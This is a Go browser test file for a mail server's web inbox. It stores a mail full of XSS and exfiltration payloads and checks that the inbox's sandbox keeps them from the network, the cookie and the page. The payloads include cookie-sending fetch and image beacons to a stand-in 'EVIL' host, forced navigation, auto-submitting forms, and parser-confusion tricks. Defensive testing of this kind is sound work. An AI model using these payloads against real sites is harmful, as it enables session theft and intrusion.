package interop

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/postrider/postrider/client/preflight"
	"github.com/postrider/postrider/server"
	"github.com/postrider/postrider/server/inbox"
	"github.com/postrider/postrider/smtp"
)

// evil is a host that nobody may talk to: it counts connections, and what they ask for.
type evil struct {
	net.Listener
	mu    sync.Mutex
	asked []string
}

func startEvil(t *testing.T) *evil {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e := &evil{Listener: l}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
			b := make([]byte, 4096)
			n, _ := c.Read(b)
			e.mu.Lock()
			e.asked = append(e.asked, fmt.Sprintf("%.200q", b[:n]))
			e.mu.Unlock()
			c.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); <-done })
	return e
}

func (e *evil) seen() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.asked
}

// malicious is a mail that tries each way out of its frame. EVIL is the address of a host of the attacker.
const malicious = `<html><head><title>taken</title>
<meta http-equiv="refresh" content="0;url=http://EVIL/refresh">
<base href="http://EVIL/base" target="_top">
<link rel="stylesheet" href="http://EVIL/css"><link rel="preconnect" href="http://EVIL/"><link rel="dns-prefetch" href="//EVIL">
<link rel="prefetch" href="http://EVIL/prefetch"><link rel="preload" as="image" href="http://EVIL/preload"><link rel="icon" href="http://EVIL/icon">
<style>@import url("http://EVIL/import"); @font-face { font-family: x; src: url(http://EVIL/font) } body { background: url(http://EVIL/bg); font-family: x }
p::before { content: url(http://EVIL/content) }</style>
<script>document.title="taken"; fetch("http://EVIL/fetch?"+document.cookie); top.location="http://EVIL/top"; parent.document.title="taken"</script></head>
<body onload="new Image().src='http://EVIL/onload?'+document.cookie" background="http://EVIL/background">
<p style="background:url(http://EVIL/style)">Hello.</p>
<img src="http://EVIL/img" srcset="http://EVIL/srcset 1x" onerror="top.document.title='taken'"><img src="cid:pic"><img src="/act?do=clear">
<iframe src="http://EVIL/iframe"></iframe><iframe srcdoc="<script>top.document.title='taken'</script>"></iframe>
<object data="http://EVIL/object"></object><embed src="http://EVIL/embed"><video src="http://EVIL/video" poster="http://EVIL/poster" autoplay></video>
<audio src="http://EVIL/audio" autoplay></audio><svg><image href="http://EVIL/svg"/><script>top.document.title='taken'</script><use href="http://EVIL/use#a"/></svg>
<form id="f" action="http://EVIL/form" target="_top"><input name="x" autofocus onfocus="this.form.submit()"><button formaction="http://EVIL/button">Click</button></form>
<form action="./act?do=clear" method="post" target="_top"><button>Click</button></form>
<a id="link" href="http://EVIL/link" ping="http://EVIL/ping" target="_top">link</a><a href="javascript:top.document.title='taken'">js</a>
<math><mtext><table><mglyph><style><img src=x onerror="top.document.title='taken'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=http://EVIL/noscript onerror=top.document.title='taken'>"></noscript>
</body></html>`

// inboxOf serves an Inbox with some mail. A cookie is its user's password.
func inboxOf(t *testing.T, e *evil) (in *inbox.Inbox, base string) {
	t.Helper()
	checker := new(preflight.Checker)
	in = &inbox.Inbox{
		Authorize: func(r *http.Request) (string, error) {
			if c, err := r.Cookie("session"); err != nil || c.Value != "secret" {
				return "", fmt.Errorf("no session")
			}
			return "ann", nil
		},
		Preflight: func(_ context.Context, env *smtp.Envelope, c smtp.Content) (found []string) {
			for _, f := range checker.Message(env, c) {
				found = append(found, f.String())
			}
			return found
		},
	}
	put := func(env *smtp.Envelope, data string) {
		p := &server.Peer{Hello: "shop.example.com", RemoteAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 40000}}
		data = strings.ReplaceAll(strings.ReplaceAll(data, "EVIL", e.Addr().String()), "\n", "\r\n")
		if _, err := in.Handle(t.Context(), p, env, strings.NewReader(data)); err != nil {
			t.Fatal(err)
		}
	}
	const picture = "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAGUlEQVR4nGNgGAWjYBSMglEwCkbBKBgFgw4AAA4QAAHjkIuMAAAAAElFTkSuQmCC"
	put(smtp.NewEnvelope("evil@example.com", "ann@example.net"), "From: Evil <evil@example.com>\nSubject: malicious\nContent-Type: multipart/related; boundary=b\n\n--b\n"+
		"Content-Type: text/html; charset=utf-8\n\n"+malicious+"\n--b\nContent-Type: image/png\nContent-ID: <pic>\nContent-Transfer-Encoding: base64\n\n"+picture+"\n--b--\n")
	put(&smtp.Envelope{From: attack + "@example.com", Recipients: []smtp.Recipient{{Address: attack + "@example.net"}}},
		"From: "+attack+"\nSubject: "+attack+"\nContent-Type: text/plain; name=\"x\"; charset="+attack+"\n\n"+attack+"\n")
	put(smtp.NewEnvelope("shop@example.com", "ann@example.net", "bob@example.net"), "From: Tea, Inc. <shop@example.com>\nTo: ann@example.net\n"+
		"Subject: =?utf-8?q?Your_tea_is_on_its_way_=E2=80=93_gr=C3=BCn?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n--a\nContent-Type: multipart/alternative; boundary=b\n\n"+
		"--b\nContent-Type: text/plain; charset=utf-8\n\nDear Ann,\n\nyour tea is on its way.\n\n--b\nContent-Type: text/html; charset=utf-8\n\n"+
		"<h1 style=\"color:#2a6\">Your tea</h1><p>Dear Ann,<p>your tea is <b>on its way</b>. <a href=\"https://shop.example.com/order/17?token=abc\">Follow it</a>\n--b--\n"+
		"--a\nContent-Type: application/pdf; name=\"invoice.pdf\"\nContent-Disposition: attachment; filename=\"invoice.pdf\"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--a--\n")
	for i := range 4 {
		put(smtp.NewEnvelope("", fmt.Sprintf("user%d@example.net", i)), "Subject: plain\n\nA plain text.\n")
	}
	if err := in.SetSwitches(inbox.Switches{Quotas: []inbox.Quota{{By: inbox.ByAddress, Messages: 20, Per: time.Hour}},
		Refuse: []inbox.Refusal{{At: inbox.AtRcpt, Who: "full@example.net", Reply: smtp.NewReply(452, "4.2.2", "the mailbox is full")}}}); err != nil {
		t.Fatal(err)
	}
	in.CheckRcpt(t.Context(), new(server.Peer), smtp.NewEnvelope("shop@example.com"), smtp.Recipient{Address: "full@example.net"})
	s := httptest.NewServer(in)
	t.Cleanup(s.Close)
	return in, s.URL + "/"
}

// signIn gives the browser the cookie.
func signIn(b *chromium, base string) {
	b.t.Helper()
	u, _ := url.Parse(base)
	b.call("Network.setCookie", map[string]any{"name": "session", "value": "secret", "domain": u.Hostname(), "path": "/"}, nil)
}

// TestInbox has a browser look at each page of an Inbox as TestPage does. A malicious mail reaches neither the page, nor
// the network, nor the cookie, in its frame or opened by itself.
func TestInbox(t *testing.T) {
	needChromium(t)
	checker := axe(t)
	e := startEvil(t)
	in, base := inboxOf(t, e)
	b := startChromium(t)
	signIn(b, base)
	for name, target := range map[string]string{
		"inbox": "", "inbox-found": "?to=ann@example.net", "inbox-none": "?find=nothing", "inbox-html": "message?id=3", "inbox-text": "message?id=3&view=text",
		"inbox-header": "message?id=3&view=header", "inbox-source": "message?id=3&view=source", "inbox-findings": "message?id=3&view=findings",
		"inbox-malicious": "message?id=1", "inbox-hostile": "message?id=2", "inbox-switches": "switches", "inbox-confirm": "act?do=clear",
		"inbox-error": "message?id=99", "inbox-hostile-header": "message?id=2&view=header", "inbox-itself": "html?id=1",
	} {
		b.open(base + target)
		for _, width := range []int{1280, 390} {
			for _, scheme := range []string{"light", "dark"} {
				b.look(width, scheme)
				b.shoot(fmt.Sprintf("%s-%d-%s", name, width, scheme))
				var wide int
				if b.eval("document.documentElement.scrollWidth", &wide); wide > width {
					t.Errorf("%s is %d pixels wide in a window of %d", name, wide, width)
				}
				if width != 390 || (scheme == "dark") != (len(name)%2 == 0) {
					continue // axe takes long, and finds the same in most of the four
				}
				var found []string
				b.eval(checker+`; axe.run({iframes: false}).then(r => r.violations.filter(v => v.impact != "minor")
					.map(v => v.id + ": " + v.impact + ": " + v.help + ": " + v.nodes.slice(0, 3).map(n => n.html).join(" ")))`, &found)
				for _, f := range found {
					t.Errorf("%s at %d, %s: axe finds %s", name, width, scheme, f)
				}
			}
		}
		var title, at string
		var intruders int
		b.eval("document.title", &title)
		b.eval("location.href", &at)
		b.eval("document.querySelectorAll('img, iframe:not(.mail), script, object, embed, style').length", &intruders)
		if strings.HasPrefix(title, "taken") || intruders > 0 || !strings.HasPrefix(at, base) {
			t.Errorf("%s: title %q, at %s, %d elements that aren't ours", name, title, at, intruders)
		}
	}
	if asked := e.seen(); len(asked) > 0 {
		t.Errorf("the attacker's host was asked %q", asked)
	}
	b.mu.Lock()
	for _, u := range b.requests {
		if !strings.HasPrefix(u, base) && !strings.HasPrefix(u, "data:") {
			t.Errorf("the page has asked for %.100s", u)
		}
	}
	b.mu.Unlock()
	if n := len(in.Messages(inbox.Filter{})); n != 7 {
		t.Errorf("%d messages are left", n)
	}
}

// TestInboxFrame: the sandbox and the policy hold by themselves. The malicious mail is in the frame as it came, and the
// headers are those of an Inbox.
func TestInboxFrame(t *testing.T) {
	needChromium(t)
	e := startEvil(t)
	in, _ := inboxOf(t, e)
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.URL.Path, "/html") {
			in.ServeHTTP(w, r)
			return
		}
		inner := httptest.NewRecorder()
		if in.ServeHTTP(inner, r); inner.Code != http.StatusOK {
			w.WriteHeader(inner.Code)
			return
		}
		for name, values := range inner.Header() {
			w.Header()[name] = values
		}
		raw := strings.ReplaceAll(malicious, "EVIL", e.Addr().String())
		io.WriteString(w, raw)
	}))
	defer s.Close()
	b := startChromium(t)
	signIn(b, s.URL)
	b.open(s.URL + "/message?id=1")
	var title, at string
	for range 3 { // give the frame time for what it begins after it was loaded
		b.eval("new Promise(done => setTimeout(done, 300))", nil)
	}
	b.eval("document.title", &title)
	b.eval("location.href", &at)
	if strings.HasPrefix(title, "taken") || at != s.URL+"/message?id=1" {
		t.Errorf("got the title %q at %s", title, at)
	}
	for _, asked := range e.seen() {
		if asked != `""` { // no policy forbids rel=preconnect, by which nothing is sent: an Inbox leaves it out
			t.Errorf("the attacker's host was asked %s", asked)
		}
	}
}

// TestInboxActions has a browser search, set switches, look at a mail, and delete it.
func TestInboxActions(t *testing.T) {
	needChromium(t)
	in, base := inboxOf(t, startEvil(t))
	b := startChromium(t)
	signIn(b, base)
	b.open(base)
	b.eval(`document.querySelector("#find").value = "your tea"`, nil)
	b.click(".search button")
	if text := b.text(); !strings.Contains(text, "1 message matches") {
		t.Errorf("got %.300s", text)
	}
	b.click(".cards a")
	if text := b.text(); !strings.Contains(text, "invoice.pdf") || !strings.Contains(text, "https://shop.example.com/order/17?token=abc") {
		t.Errorf("got %.800s", text)
	}
	b.click(`.tabs a[href*="findings"]`)
	if text := b.text(); !strings.Contains(text, "bad-from") {
		t.Errorf("got %.800s", text)
	}
	b.click(`a.button[href*="do=delete"]`)
	b.click("button.act")
	if text := b.text(); !strings.Contains(text, "The message was deleted.") || len(in.Messages(inbox.Filter{})) != 6 {
		t.Errorf("got %.300s", text)
	}
	b.open(base + "switches")
	b.eval(`document.querySelector("#refuse").value += "data b.test 554 5.7.1 no"; document.querySelector("#greylist").value = "5m"`, nil)
	b.click("button.act")
	if s := in.Switches(); len(s.Refuse) != 2 || s.Greylist != 5*time.Minute || len(s.Quotas) != 1 {
		t.Errorf("got %+v and %.300s", s, b.text())
	}
	b.open(base + "act?do=clear")
	b.click("button.act")
	if text := b.text(); !strings.Contains(text, "6 messages were deleted.") || len(in.Messages(inbox.Filter{})) != 0 {
		t.Errorf("got %.300s", text)
	}
}
